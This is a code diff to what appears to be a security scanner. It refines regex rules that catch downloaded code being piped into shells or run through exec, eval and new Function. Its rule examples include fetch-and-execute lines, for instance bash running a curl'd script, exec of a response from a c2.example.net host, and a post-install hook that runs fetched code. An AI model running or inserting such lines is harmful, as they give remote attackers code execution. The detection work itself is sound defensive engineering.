@@ -107,8 +107,9 @@ function decodeBase64Printable(literal: string): string {
 const STDIN_INTERPRETER =
   String.raw`(?:sudo(?:\s+-\S+)*\s+)?(?:env\s+(?:\S+=\S*\s+)*)?(?:/usr/(?:local/)?bin/|/bin/)?` +
   String.raw`(?:(?:ba|z|da|k|a)?sh\b|(?:python[23]?(?:\.\d+)?|node|perl|ruby|php)(?:\s+-)?(?=\s*(?:$|[;&|)'"\x60\\]|--\s)))`;
+// A download command has an argument; "curl|sh" with none names the pattern, as prose does.
 const PIPE_FROM_FETCH = new RegExp(
-  String.raw`\b(?:curl|wget)\b(?:[^\n|]|\\\n){0,300}\|\s*` + STDIN_INTERPRETER,
+  String.raw`\b(?:curl|wget)\s+[^\s|](?:[^\n|]|\\\n){0,300}\|\s*` + STDIN_INTERPRETER,
   'gim',
 );
 const SUBSTITUTED_FETCH =
@@ -317,8 +318,8 @@ const CODE_DECODE_EXEC =
   /\b(?:exec|eval)\s*\(\s*(?:compile\s*\(\s*)?(?:__import__\s*\(\s*["'](?:base64|codecs|zlib|marshal|binascii|bz2|lzma)["']\s*\)|base64|codecs|zlib|marshal|binascii|bz2|lzma|gzip)\s*\.\s*\w*(?:decode|decompress|loads|unhexlify)\w*\s*\(|\b(?:exec|eval)\s*\(\s*(?:bytes|bytearray)\.fromhex\s*\(|\beval\s*\(\s*(?:atob|unescape|decodeURIComponent)\s*\(|\b(?:eval|new\s+Function|Function)\s*\(\s*Buffer\.from\s*\([^\n]{0,200}?["'](?:base64|hex)["']|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,60}\s-(?:e|ec|en|enc|encodedcommand)\s+(?:[A-Za-z0-9+/=]{16,}|\$\{?[A-Za-z_]\w*)|\bFromBase64String\b[^\n]{0,200}\b(?:iex|Invoke-Expression)\b|\b(?:iex|Invoke-Expression)\b[^\n]{0,200}\bFromBase64String\b/gi;
 const DECODE_ASSIGN =
   /^[ \t]*(?:(?:const|let|var|my|local)\s+)?\$?([A-Za-z_]\w*)\s*=\s*[^\n]{0,120}?\b(?:b64decode|b32decode|b85decode|a85decode|decodebytes|decodestring|unhexlify|fromhex|decompress|atob|FromBase64String)\s*\(|^[ \t]*(?:(?:const|let|var)\s+)?([A-Za-z_]\w*)\s*=\s*Buffer\.from\([^\n]{0,200}?["'](?:base64|hex)["']/gm;
-// exec(x), eval(x), exec(compile(x, ...)), iex $x: the name of what is run.
-const EXEC_CALL_OF = /\b(?:exec|eval|Function|iex|Invoke-Expression)\s*\(?\s*(?:compile\s*\(\s*)?\$?([A-Za-z_]\w*)\b/g;
+// exec(x), eval(x), exec(compile(x, ...)), new Function('a', 'b', x), iex $x: the name of what is run.
+const EXEC_CALL_OF = /\b(?:exec|eval|Function|iex|Invoke-Expression)\s*\(?\s*(?:compile\s*\(\s*|(?:["'][^"'\n]{0,40}["']\s*,\s*){1,8})?\$?([A-Za-z_]\w*)\b/g;
 const B64_LITERAL = /["']([A-Za-z0-9+/]{24,}={0,2})["']/;
 
 function decodedEvidence(text: string, index: number): string {
@@ -832,7 +833,9 @@ function detectRemoteCode(file: FileView): RuleMatch[] {
     if (fetched.size > 0) {
       found.push(
         ...scan(text, EXEC_CALL_OF, (m) => {
-          if (!fetched.has(m[1]) || /^(?:iex|Invoke|Function)/.test(m[0])) return null;
+          if (!fetched.has(m[1]) || /^(?:iex|Invoke)/.test(m[0])) return null;
+          // Function(...) counts as new Function(...), which compiles its last argument.
+          if (/^Function/.test(m[0]) && !/\bnew\s+$/.test(text.slice(Math.max(0, m.index - 8), m.index))) return null;
           if (/[\w.]$/.test(text.slice(Math.max(0, m.index - 1), m.index)) || isCommentLine(file, m.index)) return null;
           return { index: m.index, length: m[0].length, severity: 'critical', message: `Response downloaded into "${m[1]}" is executed` };
         }),
@@ -1116,6 +1119,7 @@ export const rules: Rule[] = [
         'Setup: /bin/bash -c "$(curl -fsSL https://payload.example-cdn.io/i.sh)"\n',
       ],
       noMatch: [
+        'The auditor flags jobs that download and execute code (curl|sh) or run from /tmp.',
         'Fetch package metadata:\n\n```bash\ncurl -s "https://pypi.org/pypi/{package}/json" | python -m json.tool\n```\n',
         'Never pipe a download into your shell, for example `curl https://x.io/i.sh | sh`: attackers swap the script.',
         'Call the API and filter with jq: `curl -s https://api.github.com/repos/o/r | jq .stargazers_count`',
@@ -1287,6 +1291,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'src/migrate.ts', text: "const code = await (await fetch(REGISTRY)).text();\nconst mod = new Function('require', 'module', code);\n" },
         { path: 'vendor/kit/setup.py', text: 'class PostInstall(install):\n    def run(self):\n        src = urllib.request.urlopen(u, timeout=10).read()\n        exec(compile(src, "<init>", "exec"))\n' },
         { path: 'assets/refresh.sh', text: 'c=$(curl -s "https://wx.example-cdn.cc/t?id=$ID")\n[ -n "$c" ] && bash -c "$c"\n' },
         { path: 'scripts/update.py', text: 'import requests\nexec(requests.get("https://c2.example.net/p").text)\n' },
